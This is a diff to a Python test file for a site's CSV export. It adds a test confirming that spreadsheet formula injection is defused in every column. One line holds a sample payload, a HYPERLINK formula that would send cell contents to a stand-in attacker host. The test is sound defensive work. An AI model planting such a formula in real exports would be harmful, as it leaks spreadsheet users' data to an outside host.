@@ -16,6 +16,7 @@ from r1kb.site import citations, exports, jsonld
 from r1kb.site.build import load_validated
 from r1kb.site.context import SiteContext
 from r1kb.site.dates import DataDates
+from r1kb.site.escape import csv_cell
 from r1kb.site.urls import Urls
 from site_helpers import HOSTILE_STATEMENT, RECORDS, write_site_data
 
@@ -150,8 +151,24 @@ def test_csv_export_one_row_per_claim_and_no_formulas(ctx: SiteContext) -> None:
     assert by_id["v3-base-pretraining-duration"]["value_high"] == "2"
     assert by_id["v3-base-pretraining-duration"]["value"] == ""
     assert by_id["v3-training-gpu-hours-old"]["withdrawn"] == "yes"
-    assert exports._cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
-    assert exports._cell("-1") == "'-1" and exports._cell("ok") == "ok"
+    assert csv_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
+    assert csv_cell("-1") == "'-1" and csv_cell("ok") == "ok" and csv_cell(-1) == -1
+    assert csv_cell(" =1+1") == "' =1+1" and csv_cell(None) == ""
+
+
+def test_csv_formula_injection_is_defused_in_every_column(data_dir: Path) -> None:
+    """A formula in any column (a unit id, a model id, a source id...) reaches the sheet as text."""
+    kb = load_validated(data_dir, [])
+    payload = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    for c in kb.claims.values():
+        c.unit = c.subject = c.quantity = c.status = c.verdict = payload
+        c.scope = c.statement = payload
+    ctx = SiteContext(kb=kb, urls=Urls(site_url="@" + SITE), dates=DataDates(latest=None))
+    rows = list(csv.reader(io.StringIO(exports.to_csv(ctx))))[1:]
+    assert rows
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "+", "-", "@")), row
 
 
 def test_citation_exports_cover_every_claim(ctx: SiteContext) -> None:
